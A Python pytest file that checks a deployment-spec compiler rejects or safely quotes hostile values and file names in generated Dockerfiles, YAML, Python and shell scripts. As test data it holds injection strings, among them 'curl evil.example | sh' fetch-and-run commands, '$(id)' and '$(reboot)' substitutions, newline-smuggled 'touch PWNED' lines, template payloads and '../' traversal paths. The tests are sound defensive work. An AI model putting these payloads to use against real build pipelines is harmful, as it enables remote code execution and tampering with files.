"""Spec values that could break out of a generated file are rejected, or come out quoted.

One test per hostile input: a newline, ``$(…)``, ``"``, ``{{ }}`` and ``../``.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from tfspec.compiler.pipeline import CompileResult

from targets_testing import example_tree, run_tool, tool

Mutation = Callable[[dict[str, Any]], None]


def _compile(tmp_path: Path, mutate: Mutation, environ: dict[str, str] | None = None) -> CompileResult:
    tree = copy.deepcopy(example_tree())
    mutate(tree)
    path = tmp_path / "spec"
    path.mkdir(exist_ok=True)
    spec = path / "deploy.yaml"
    spec.write_text(yaml.safe_dump(tree, sort_keys=False), encoding="utf-8")
    from tfspec.compiler.pipeline import compile_spec

    return compile_spec(spec, environ=environ or {})


def _rejected(result: CompileResult, key_path: str) -> None:
    assert not result.ok, "the hostile value was accepted"
    assert not result.files
    paths = [d.path for d in result.diagnostics]
    assert key_path in paths, paths
    for diagnostic in result.diagnostics:
        assert diagnostic.line >= 1 and diagnostic.column >= 1


def _set(path: tuple[Any, ...], value: Any) -> Mutation:
    def mutate(tree: dict[str, Any]) -> None:
        node: Any = tree
        for key in path[:-1]:
            node = next(t for t in node if t["name"] == key) if isinstance(node, list) else node[key]
        node[path[-1]] = value
    return mutate


def test_newline_is_rejected(tmp_path: Path) -> None:
    _rejected(_compile(tmp_path, _set(("description",), "digits\nRUN curl evil.example | sh")), "description")
    # Line breaks to YAML (NEL, U+2028, U+2029) and bidi overrides are control characters too.
    for character in ("\r", "\x85", "\u2028", "\u2029", "\u202e"):
        _rejected(_compile(tmp_path, _set(("description",), f"digits{character}injected: key")), "description")
    labels = [str(i) for i in range(9)] + ["nine\n# not a label"]
    _rejected(_compile(tmp_path, _set(("data", "labels"), labels)), "data.labels[9]")
    _rejected(_compile(tmp_path, _set(("targets", "serving", "kubernetes", "node_selector"), {"pool": "gpu\nx: y"})),
              "targets[1].kubernetes.node_selector.pool")


def test_command_substitution_is_rejected(tmp_path: Path) -> None:
    _rejected(_compile(tmp_path, _set(("description",), "digits $(curl evil.example | sh)")), "description")
    _rejected(_compile(tmp_path, _set(("targets", "serving", "kubernetes", "image"), "registry/$(id)")),
              "targets[1].kubernetes.image")
    _rejected(_compile(tmp_path, _set(("targets", "android", "android", "package"), "com.example.$(id)")),
              "targets[0].android.package")
    # An environment variable cannot smuggle it in either: the value is checked after expansion.
    _rejected(_compile(tmp_path, _set(("description",), "${DESCRIPTION}"), {"DESCRIPTION": "`reboot` $(reboot)"}),
              "description")


def test_double_quote_comes_out_quoted(tmp_path: Path) -> None:
    description = 'He said "ship it" \' # : - [x] & *ref'
    result = _compile(tmp_path, _set(("description",), description))
    assert result.ok, result.diagnostics
    files = result.files
    # YAML: the annotation reads back as exactly the spec value.
    for path in ("serving/kubernetes/deployment.yaml", "cluster/kubernetes/jobset.yaml"):
        document = yaml.safe_load(files[path])
        assert document["metadata"]["annotations"]["kubernetes.io/description"] == description
    assert yaml.safe_load(files["cluster/spec/digits.yaml"])["description"] == description
    # Dockerfile: one LABEL value, escaped, that hadolint parses; the escaped form decodes to the value.
    for path in ("serving/Dockerfile", "cluster/Dockerfile"):
        dockerfile = tmp_path / path.replace("/", "-")
        dockerfile.write_text(files[path], encoding="utf-8")
        check = run_tool([tool("hadolint"), "--no-color", "--failure-threshold", "style", str(dockerfile)])
        assert check.returncode == 0, check.stdout
        (label,) = re.findall(r'org\.opencontainers\.image\.description=("(?:[^"\\]|\\.)*")', files[path])
        assert json.loads(label) == description
    # Comments keep it on one line (newlines cannot reach them), so nothing leaks into code.
    for path, text in files.items():
        if description in text:
            for line in text.splitlines():
                if description in line:
                    assert line.lstrip().startswith(("#", "//")) or "description" in line, (path, line)


def test_double_quote_in_labels_stays_one_line_per_label(tmp_path: Path) -> None:
    labels = ['zero "0"'] + [str(i) for i in range(1, 10)]
    result = _compile(tmp_path, _set(("data", "labels"), labels))
    assert result.ok, result.diagnostics
    assert result.files["android/digits_model/src/main/assets/labels.txt"].splitlines() == labels


def test_template_syntax_is_rejected(tmp_path: Path) -> None:
    _rejected(_compile(tmp_path, _set(("description",), "{{ config.__class__ }}")), "description")
    _rejected(_compile(tmp_path, _set(("data", "labels"), ["{% raw %}"] + [str(i) for i in range(1, 10)])),
              "data.labels[0]")
    _rejected(_compile(tmp_path, _set(("targets", "serving", "kubernetes", "node_selector"), {"pool": "{{x}}"})),
              "targets[1].kubernetes.node_selector.pool")


def test_template_syntax_in_a_value_is_never_evaluated(tmp_path: Path) -> None:
    # Where braces are allowed at all (a ${VAR:-default} is expanded, not templated), no Jinja runs on values.
    result = _compile(tmp_path, _set(("description",), "digits ${UNSET:-classifier}"))
    assert result.ok, result.diagnostics
    assert "digits classifier" in result.files["serving/Dockerfile"]


def test_parent_directory_is_rejected(tmp_path: Path) -> None:
    _rejected(_compile(tmp_path, _set(("targets", "android", "filename"), "../../evil.tflite")), "targets[0].filename")
    _rejected(_compile(tmp_path, _set(("targets", "android", "android", "asset_pack", "name"), "../pack")),
              "targets[0].android.asset_pack.name")
    _rejected(_compile(tmp_path, _set(("targets", "cluster", "storage"), {"mount_path": "/workspace/../etc"})),
              "targets[2].storage.mount_path")
    _rejected(_compile(tmp_path, _set(("targets", "cluster", "storage"), {"claim_name": "../data"})),
              "targets[2].storage.claim_name")


def test_target_name_cannot_leave_the_output_folder(tmp_path: Path) -> None:
    result = _compile(tmp_path, _set(("targets", "serving", "name"), "../serving"))
    assert not result.ok
    assert any(d.path == "targets[1].name" for d in result.diagnostics)


def test_rejection_is_a_one_line_error_from_the_cli(tmp_path: Path) -> None:
    tree = copy.deepcopy(example_tree())
    tree["description"] = "x $(id)"
    spec = tmp_path / "deploy.yaml"
    spec.write_text(yaml.safe_dump(tree, sort_keys=False), encoding="utf-8")
    import sys

    result = subprocess.run([sys.executable, "-m", "tfspec", "build", str(spec), "--out", str(tmp_path / "out")],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert re.search(r"deploy\.yaml:\d+:\d+: description: ", result.stderr + result.stdout)
    assert not (tmp_path / "out").exists()


# File names a user (or a checkout of someone else's repository) can give a spec: each one ended the
# header comment and became code before the file name was flattened.
HOSTILE_FILE_NAMES = {
    "newline": "x\ntouch PWNED #.yaml",
    "dockerfile_run": "x\nRUN touch PWNED\n.yaml",
    "carriage_return": "x\rtouch PWNED #.yaml",
    "line_separator": "x\u2028injected: key #.yaml",
    "next_line": "x\x85injected: key #.yaml",
    "paragraph_separator": "x\u2029injected: key #.yaml",
    "bidi_override": "x\u202etouch PWNED.yaml",
    "long": "x" * 5000 + ".yaml",
}


def _compile_named(directory: Path, name: str, tree: dict[str, Any]) -> CompileResult:
    from tfspec.compiler.pipeline import compile_spec

    directory.mkdir(parents=True)
    spec = directory / name[-250:]  # a file name is at most 255 bytes on Linux
    spec.write_text(yaml.safe_dump(tree, sort_keys=False), encoding="utf-8")
    return compile_spec(spec, environ={})


def _unhashed(text: str) -> str:
    return re.sub(r"\b[0-9a-f]{10,64}\b", "<hash>", text)


def _yaml_keys(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _yaml_keys(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_yaml_keys(item) for item in value]
    return None


@pytest.mark.parametrize("case", sorted(HOSTILE_FILE_NAMES))
def test_spec_file_name_cannot_break_out_of_the_header(tmp_path: Path, case: str) -> None:
    tree = example_tree()
    plain = _compile_named(tmp_path / "plain", "deploy.yaml", tree)
    hostile = _compile_named(tmp_path / "hostile", HOSTILE_FILE_NAMES[case], tree)
    assert plain.ok and hostile.ok, hostile.diagnostics
    assert sorted(hostile.files) == sorted(plain.files)
    for path, text in hostile.files.items():
        if path.endswith(".json"):  # plan.json and manifests hold hashes of the other files: only parse them
            json.loads(text)
            continue
        # Only the header line differs, and it stays one printable line in every format.
        # (Object names that carry a hash of the content, such as the ConfigMap's, differ too.)
        plain_lines, hostile_lines = _unhashed(plain.files[path]).splitlines(), _unhashed(text).splitlines()
        assert len(hostile_lines) == len(plain_lines), (path, text[:400])
        changed = [line for line, before in zip(hostile_lines, plain_lines) if line != before]
        assert all("Generated by tfspec" in line and line.isprintable() and len(line) < 300 for line in changed), path
        if path.endswith(".yaml"):
            documents = list(yaml.safe_load_all(text))
            assert [_yaml_keys(d) for d in documents] == [_yaml_keys(d) for d in yaml.safe_load_all(plain.files[path])]
        if path.endswith(".py"):
            compile(text, path, "exec")
        if path.endswith("Dockerfile"):
            assert re.findall(r"^\s*[A-Z]+ ", text, re.M) == re.findall(r"^\s*[A-Z]+ ", plain.files[path], re.M)
            dockerfile = tmp_path / path.replace("/", "-")
            dockerfile.write_text(text, encoding="utf-8")
            check = run_tool([tool("hadolint"), "--no-color", "--failure-threshold", "style", str(dockerfile)])
            assert check.returncode == 0, check.stdout
        if path.endswith(".sh"):
            script = tmp_path / "run" / Path(path).name
            script.parent.mkdir(exist_ok=True)
            script.write_text(text, encoding="utf-8")
            assert run_tool(["bash", "-n", str(script)]).returncode == 0
            # Run it against a port nothing listens on: curl fails, but nothing else may run.
            run_tool(["bash", str(script), "127.0.0.1:9"], cwd=script.parent, timeout=60)
            assert sorted(p.name for p in script.parent.iterdir()) == [script.name], "the header ran a command"
